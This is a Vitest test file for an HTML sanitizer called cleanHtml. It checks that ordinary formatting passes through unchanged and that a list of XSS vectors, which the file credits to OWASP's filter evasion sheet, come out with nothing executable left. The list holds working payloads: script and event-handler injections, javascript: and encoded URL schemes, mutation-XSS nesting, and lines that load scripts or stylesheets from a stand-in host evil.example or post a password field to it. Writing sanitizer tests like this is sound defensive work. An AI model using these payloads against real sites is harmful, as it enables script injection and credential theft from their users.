import { expect, test } from 'vitest'
import { cleanHtml } from './cleanHtml.ts'

test('honest formatting survives', () => {
  const honest =
    '<h3>Bring</h3><p>Boots, <strong>a coat</strong> and <em>lunch</em>.<br />See <a href="https://example.org/list">the list</a>.</p><ul><li>One</li></ul><ol><li><u>Two</u></li></ol><blockquote><s>Three</s></blockquote>'
  expect(cleanHtml(honest)).toBe(honest)
})

/** After OWASP's filter evasion sheet and the vectors sanitizers are tested with. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://example.org" onclick="alert(1)" style="position:fixed" target="_top">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover="alert(1)" class="modal" id="root">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name="password"><button>Go</button></form>',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<p>x</p><!--<img src="--><img src=x onerror=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(String.fromCharCode(88))</script>',
]

test.each(ATTACKS)('nothing that runs or reaches out is left of %s', (attack) => {
  const clean = cleanHtml(attack)
  expect(clean).not.toMatch(/<\/?(?!(p|br|strong|b|em|i|u|s|ul|ol|li|a|h3|h4|blockquote)[\s>/])[a-z]/i)
  expect(clean).not.toMatch(/<[^>]*\s(?!href=")[a-z-]+\s*=/i)
  expect(clean).not.toMatch(/href="(?!(https?:|mailto:|tel:))/i)
  expect(cleanHtml(clean)).toBe(clean)
})
